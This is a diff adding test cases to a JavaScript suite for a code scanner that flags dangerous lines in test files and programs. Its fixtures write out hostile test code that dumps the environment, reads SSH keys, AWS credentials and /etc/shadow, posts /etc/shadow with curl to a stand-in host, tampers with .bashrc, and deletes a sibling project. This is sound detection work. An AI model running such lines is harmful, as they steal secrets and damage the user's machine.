@@ -42,6 +42,92 @@ describe('scanText', () => {
   });
 });
 
+describe('scanText: what hostile tests do to the machine they run on', () => {
+  it('reports every line of the test that passed as "no secrets or dangerous calls" (JavaScript)', () => {
+    const hostile = [
+      "import { execSync } from 'node:child_process';",
+      "import net from 'node:net';",
+      "import { readFileSync, writeFileSync } from 'node:fs';",
+      "import os from 'node:os';",
+      "test('leaks', () => {",
+      '  console.log(JSON.stringify(process.env));',
+      "  const key = readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');",
+      "  const socket = net.connect(5432, '127.0.0.1');",
+      "  execSync('curl -d @/etc/shadow http://example.invalid');",
+      "  writeFileSync('../../escaped.txt', key);",
+      "  writeFileSync(path.join(os.homedir(), '.bashrc'), 'evil');",
+      '});',
+    ].join('\n');
+    expect(rules('test/app.test.js', hostile)).toEqual([
+      '2:raw-socket:medium',
+      '6:environment-dump:high',
+      '7:home-secrets:high',
+      '8:raw-socket:medium',
+      '9:system-secrets:high',
+      '9:child-process:medium',
+      '10:write-outside-project:high',
+      '11:write-outside-project:high',
+    ]);
+  });
+
+  it('reports the same in a pytest file', () => {
+    const hostile = [
+      'import os, socket, subprocess, json',
+      'from pathlib import Path',
+      'def test_leaks():',
+      '    print(json.dumps(dict(os.environ)))',
+      '    key = open(os.path.expanduser("~/.aws/credentials")).read()',
+      '    s = socket.create_connection(("127.0.0.1", 5432))',
+      '    subprocess.run(["cat", "/etc/shadow"])',
+      '    os.system("id")',
+      '    open("/home/someone/.profile", "a").write("evil")',
+      '    Path.home().joinpath(".bashrc").write_text("evil")',
+      '    shutil.rmtree("../../other-project")',
+    ].join('\n');
+    expect(rules('tests/test_app.py', hostile)).toEqual([
+      '4:environment-dump:high',
+      '5:home-secrets:high',
+      '6:raw-socket:medium',
+      '7:system-secrets:high',
+      '7:child-process:medium',
+      '8:os-system:medium',
+      '9:write-outside-project:high',
+      '10:write-outside-project:high',
+      '11:write-outside-project:high',
+    ]);
+    expect(rules('tests/conftest.py', 'import socket')).toEqual(['1:raw-socket:medium']);
+  });
+
+  it('leaves ordinary tests and programs alone: a child env copied from process.env, temp folders, fixtures beside the test, comments', () => {
+    const ordinary = [
+      "import { spawnSync } from 'node:child_process';",
+      "import { mkdtempSync, writeFileSync, readFileSync } from 'node:fs';",
+      "const dir = mkdtempSync(path.join(os.tmpdir(), 'todo-'));",
+      "writeFileSync(path.join(dir, 'todos.json'), '[]');",
+      "writeFileSync('/tmp/todo-test.json', '[]');",
+      "const fixture = readFileSync(path.join(__dirname, '..', 'fixtures', 'a.json'), 'utf8');",
+      "const env = { ...process.env, TODO_FILE: 'x' };",
+      'const port = process.env.PORT;',
+      '// never read ~/.ssh or /etc/shadow from a test',
+    ].join('\n');
+    expect(rules('src/store.js', ordinary)).toEqual([]);
+    expect(rules('test/store.test.js', ordinary.replace("import { spawnSync } from 'node:child_process';\n", ''))).toEqual([]);
+    expect(rules('tests/test_store.py', 'def test_save(tmp_path):\n    (tmp_path / "todos.json").write_text("[]")\n    value = os.environ.get("TODO_FILE")\n    env = dict(os.environ, TODO_FILE="x")')).toEqual([]);
+  });
+
+  it('keeps to a warning in the program itself what only tests must never do', () => {
+    const program = [
+      "import { execFileSync } from 'node:child_process';",
+      "execFileSync('git', ['status']);",
+      "writeFileSync(path.join(os.homedir(), '.todo.json'), data);",
+      "const config = readFileSync('/etc/todo.conf', 'utf8');",
+      "const keyFile = path.join(os.homedir(), '.ssh', 'config');",
+    ].join('\n');
+    expect(rules('src/cli.js', program)).toEqual(['3:write-outside-project:medium', '4:reads-etc:medium', '5:home-secrets:medium']);
+    expect(rules('deploy.sh', 'scp -i ~/.ssh/id_ed25519 dist/ host:\nprintenv\ncat /etc/ssh/sshd_config')).toEqual(['1:home-secrets:medium', '2:environment-dump:medium', '3:system-secrets:high']);
+  });
+});
+
 describe('scanFiles', () => {
   it('reads text files only, skips lock files, and lists high findings first', async () => {
     const files: Record<string, string> = {
